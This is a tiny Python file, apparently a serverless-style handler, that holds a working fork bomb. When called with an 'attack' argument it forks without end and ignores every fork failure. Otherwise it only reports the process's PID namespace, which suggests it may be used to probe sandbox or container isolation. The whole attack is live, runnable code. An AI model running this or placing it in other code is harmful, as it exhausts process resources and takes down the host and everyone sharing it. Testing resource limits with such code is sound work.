"""The classic fork bomb: every process forks for ever, ignoring every failure to."""
import os


def main(args):
    if not args.get("attack"):
        return {"pidns": os.readlink("/proc/self/ns/pid")}
    while True:
        try:
            os.fork()
        except OSError:
            pass
